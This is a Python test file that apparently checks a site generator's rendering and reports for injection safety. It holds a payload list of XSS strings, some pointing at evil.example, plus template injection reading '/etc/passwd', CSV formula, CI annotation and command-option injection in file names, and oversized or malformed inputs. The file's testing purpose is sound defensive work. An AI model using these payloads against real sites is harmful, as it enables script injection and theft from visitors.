"""Documents that would act in the reader's name, or that are too wide, too deep or no text; and names that carry markup."""
import csv
import html.parser
import io
import json
import pathlib
import re
import subprocess
import xml.etree.ElementTree

from case import Case, groups, put

RUN = "sitegenProbe()"
HTML = {
    "script": f"<script>{RUN}</script>", "script in pieces": f"<scr<script>ipt>{RUN}</scr</script>ipt>", "script with a slash": f"<script/x>{RUN}</script>",
    "upper-case script": f"<SCRIPT SRC=//evil.example/a.js></SCRIPT>", "image error": f"<img src=x onerror={RUN}>", "svg": f"<svg onload={RUN}><script>{RUN}</script></svg>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}>", "iframe": f"<iframe src='javascript:{RUN}'></iframe><iframe srcdoc='<script>{RUN}</script>'>",
    "object": f"<object data='data:text/html,<script>{RUN}</script>'></object><embed src='javascript:{RUN}'>", "base": "<base href='https://evil.example/'>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=https://evil.example/'>", "style": "<style>*{background:url(https://evil.example/)}</style>",
    "style attribute": "<p style='background:url(https://evil.example/)'>a</p>", "form": "<form action='https://evil.example/'><input name=a autofocus onfocus='" + RUN + "'></form>",
    "link element": "<link rel=stylesheet href='https://evil.example/a.css'>", "details": f"<details open ontoggle={RUN}><summary>a</summary></details>",
    "template": f"<template><script>{RUN}</script></template>", "noscript": f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    "id of the page": "<p id=Main name=Main>a</p><form id=document><input name=getElementById></form>", "closing the page": "</main></body></html><h1>a</h1>",
    "comment": f"<!--><script>{RUN}</script>-->", "CDATA": f"<![CDATA[><script>{RUN}</script>]]>", "NUL in a tag": f"<scr\0ipt>{RUN}</scr\0ipt>",
    "attribute with entities": f"<a href='&#106;avascript&colon;{RUN}'>a</a>", "tab in a scheme": f"<a href='java\tscript:{RUN}'>a</a>",
    "Markdown script link": f"[a](javascript:{RUN}) [b](JaVaScRiPt:{RUN}) [c](<java&#10;script:{RUN}>) [d](data:text/html;base64,PHNjcmlwdD4=) <javascript:{RUN}>",
    "Markdown image": f"![a](https://evil.example/a.png) ![b](javascript:{RUN}) ![c](//evil.example/b.png)", "reference link": f"[a]\n\n[a]: javascript:{RUN}",
    "link title": f"[a](b \"'><img src=x onerror={RUN}>\")", "fence info": f"``` \"><script>{RUN}</script>\na\n```", "heading": f"# <img src=x onerror={RUN}>",
    "footnote": f"a[^<script>]\n\n[^<script>]: <script>{RUN}</script>", "table": f"| <script>{RUN}</script> |\n|---|\n| <img src=x onerror={RUN}> |",
    "template code": "{{ 7 * 7 }} {% include '/etc/passwd' %} {# #} {% raw %}",
}

WIDE = {
    "table of 120 columns and short rows": "|" + "a|" * 120 + "\n|" + "-|" * 120 + "\n" + "a\n" * 1_000,
    "table of 10,000 columns": "|" + "a|" * 10_000 + "\n|" + "-|" * 10_000 + "\n" + "|a|\n" * 100,
    "table in a quote": "> |" + "a|" * 120 + "\n> |" + "-|" * 120 + "\n" + "> a\n" * 800,
    "many tables": "|a|b|\n|-|-|\n|c|d|\n\n" * 500,
    "link definition used often": "[a]: https://example.org/" + "x" * 2_000 + "\n\n" + "[a] " * 500,
    "link definition with a long title": "[a]: b '" + "x" * 2_000 + "'\n\n" + "[a] " * 500,
    "nested quotes": "> " * 5_000 + "a\n", "nested lists": "".join("  " * i + "- a\n" for i in range(500)), "nested emphasis": "*a " * 5_000 + "b*" * 5_000,
    "nested links": "[" * 5_000 + "a" + "](b)" * 5_000, "nested images": "![" * 3_000 + "a" + "](b)" * 3_000, "emphasis that never closes": "*_" * 10_000,
    "a line of a megabyte and more": "a" * 1_000_001, "a file of two megabytes and more": ("a" * 999 + "\n") * 2_001, "open tags": "<a b" * 10_000,
    "binary": b"\x7fELF" + bytes(range(256)) * 100, "UTF-16": "# Example\n".encode("utf-16"), "not UTF-8": b"# Example\n\n\xff\xfe\xc3\x28 \xed\xa0\x80\n", "NUL": "# Example\n\na\0b\n",
    "Latin-1": "# Beispiel\n\nGr\u00fc\u00dfe\n".encode("latin-1"), "carriage returns": "# Example\r\rText\r", "form feeds": "# Example\n\f\n\v\n", "empty": "", "one byte": "#",
    "half a fence": "```", "half a table": "|a|\n|-", "nothing but headings": "#\n" * 2_000, "headings of one name": "# a\n\n" * 1_000, "footnotes that refer to each other": "[^a]: [^b]\n\n[^b]: [^a]\n\na[^a]\n",
    "footnote of itself": "a[^a]\n\n[^a]: [^a]\n", "includes of itself": ".. include:: page.md\n", "claims of huge numbers": "We have " + "9" * 4_000 + " maintainers from 10^99 organizations.\n",
    "dates of no calendar": "## 2026-02-30\n\n## 0000-00-00\n\n## 9999-12-31\n\nUpdated 99 Foo 99999.\n",
}

NAMES = {
    "markup": "<img src=x onerror=a>.md", "line break": "a\n# Heading\n.md", "carriage return": "a\r::error::b.md", "backtick": "a`b`[c](d).md", "pipe": "a|b|c.md", "quotes": "a\"b'c.md",
    "formula": "=cmd|'a'!A0.md", "percent": "100%0A::error::a.md", "escape sequence": "a\x1b[31mb.md", "bidi": "\u202egnp.md", "comma and colon": "a,line=1::b.md", "template": "{{ 7*7 }}.md",
    "closing CDATA": "a]]>b.md", "no-break space": "a\u00a0b.md", "line separator": "a\u2028b.md", "tab": "a\tb.md", "backslash": "a\\nb.md", "leading dash": "-rf.md", "ampersand": "a&amp;b.md",
    "markup behind a backtick": "!`<img src=x onerror=a>`b.md", "markup behind a pipe": "!|<img src=x onerror=a>|b.md", "link behind a backtick": "!`](javascript:a)`b.md",
}

FORMATS = ["text", "markdown", "json", "sarif", "junit", "github", "csv", "triage", "snapshot", "health", "application-form", "governance-review"]
# Those that are Markdown.
MARKDOWN = ("markdown", "triage", "health", "application-form", "governance-review")


class Elements(html.parser.HTMLParser):
    """Elements and attributes of a page that act."""

    def __init__(self):
        super().__init__()
        self.found = []

    def handle_starttag(self, tag, attributes):
        for name, value in attributes:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"<{tag} {name}>")
            if name in ("src", "action", "data") and (value or "").split("?")[0].startswith(("http", "//", "data:", "javascript:")):
                self.found.append(f"<{tag} {name}={value}>")
            if name == "href" and re.match(r"\s*(javascript|data|vbscript):", value or "", re.IGNORECASE) and tag != "link":
                self.found.append(f"<{tag} href={value}>")
        if tag in ("iframe", "object", "embed", "base", "form", "svg:script", "math", "template", "noscript"):
            self.found.append(f"<{tag}>")
        if tag == "script" and not dict(attributes).get("src", "").startswith(("../", "assets/")):
            self.found.append("<script>")


def pages_are_harmless(work, _):
    for page in filter(pathlib.Path.is_file, (work / "out").rglob("*.html")):
        elements = Elements()
        text = page.read_text()
        elements.feed(text)
        # The pages' own forms: search and filters.
        found = [f for f in elements.found if f not in ("<form>", "<template>", "<noscript>")]
        if "/documents/" in str(page) and found:
            yield f"{page.relative_to(work)} holds {found[:3]}"


def is_sound(format, text, program):
    """What a parser of the format finds wrong."""
    if format in ("json", "sarif", "snapshot"):
        json.loads(text)
    elif format == "junit":
        xml.etree.ElementTree.fromstring(text)
    elif format == "csv":
        widths = {len(row) for row in csv.reader(io.StringIO(text, newline=""), strict=True)}
        if len(widths) != 1:
            yield f"rows of {widths} cells"
        for row in csv.reader(io.StringIO(text, newline="")):
            if any(cell[:1] in tuple("=+-@\t\r") for cell in row):
                yield f"a formula: {row}"
    elif format == "github":
        for line in re.split(r"\r\n|\r|\n", text.rstrip("\n")):
            if not re.match(r"::(error|warning|notice) (file=|title=)", line):
                yield f"an annotation of its own: {line!r}"
            elif not re.match(r"::\w+ (\w+=[^,:\r\n]*)(,\w+=[^,:\r\n]*)*::", line):
                yield f"a broken annotation: {line!r}"
    elif format in MARKDOWN:
        page = subprocess.run([program, "markdown", "--unsafe"], input=text, capture_output=True, text=True, check=True).stdout
        elements = Elements()
        elements.feed(page)
        if elements.found or re.search(r"<img|<h1>Heading|href=\"javascript", page):
            yield f"markup: {elements.found[:3]}"
    if format in ("text", *MARKDOWN) and re.search(r"[\x00-\x08\x0b-\x1f\x7f\u202e]", text):
        yield "control characters"


def reported(format):
    def check(_, runs):
        try:
            yield from is_sound(format, runs[0].out.decode("utf-8"), runs[0].program)
        except Exception as error:
            yield f"{format} does not parse: {error}"
    return check


def moves_no_cursor(_, runs):
    if re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202e]", runs[0].out.decode("utf-8") + runs[0].err):
        yield "control characters"


def hostile_names(work):
    """A community with findings in files of hostile names."""
    for number, name in enumerate(NAMES.values()):
        folder = work / "in" / name.removesuffix(".md") / "docs"
        put(folder / name, "# Page\n\n[nowhere](nowhere.md) ![b](none.png)\n\nSee the [list](../../MAINTAINER.md). We have 9 maintainers.\n")
        put(folder.parent / "MAINTAINERS.md", "# Maintainers\n\n| Name | GitHub | Company |\n|---|---|---|\n| Ada | @ada | A |\n")
        put(folder.parent / "GOVERNANCE.md", "# Governance\n\nMaintainers decide by a majority vote.\n")
        put(folder.parent / "OWNERS", f"approvers:\n- {number}\n- nobody-at-all\n- ada\n")


def cases():
    inputs = {f"HTML, {n}": {"page.md": "# Example\n\n" + t + "\n\nText.\n"} for n, t in HTML.items()}
    yield from groups("HTML", inputs, 40, after=pages_are_harmless)
    inputs = {f"HTML in AsciiDoc, {n}": {"page.adoc": "= Example\n\n" + t + "\n\n++++\n" + t + "\n++++\n"} for n, t in HTML.items()}
    inputs |= {f"HTML in reStructuredText, {n}": {"page.rst": "Example\n=======\n\n" + t + "\n\n.. raw:: html\n\n   " + t.replace("\n", "\n   ") + "\n"} for n, t in HTML.items()}
    yield from groups("HTML of other markup", inputs, 70, after=pages_are_harmless)
    yield from groups("wide", {f"document, {n}": {"page.md": t} for n, t in WIDE.items()}, 40, exits=(0, 3))
    for format in FORMATS:
        yield Case(f"names in {format}", {f"every name in {format}": {}}, ["report", "--quiet", "--as-of", "2026-01-01", "--source", "{in}", "--format", format],
                   before=hostile_names, after=reported(format))
    for command in ("inspect", "build"):
        yield Case(f"names in {command}", {f"every name in {command}": {}}, [command, "--as-of", "2026-01-01", "--source", "{in}", *(["--output", "{out}"] if command == "build" else [])],
                   before=hostile_names, after=moves_no_cursor)
    yield Case("names on pages", {f"name, {n}": {name: "# Example\n\nText.\n"} for n, name in NAMES.items()}, after=pages_are_harmless)
